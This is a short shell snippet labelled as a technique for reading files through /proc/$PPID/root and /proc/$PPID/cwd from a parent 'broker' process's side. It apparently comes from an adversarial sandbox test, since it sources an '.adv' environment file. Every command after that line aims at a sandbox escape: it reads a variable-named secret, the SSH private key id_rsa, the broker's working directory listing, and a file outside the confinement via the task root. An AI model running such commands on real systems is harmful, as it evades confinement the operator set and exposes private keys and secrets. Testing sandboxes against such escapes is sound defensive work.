# technique: /proc/$PPID/root and /proc/$PPID/cwd: resolve paths from the broker's side
. ./.adv/world.env
cat "/proc/$PPID/root$SECRET"
cat "/proc/$PPID/cwd/../.ssh/id_rsa"
ls -la "/proc/$PPID/cwd/"
cat "/proc/$PPID/task/$PPID/root$OUTSIDE"
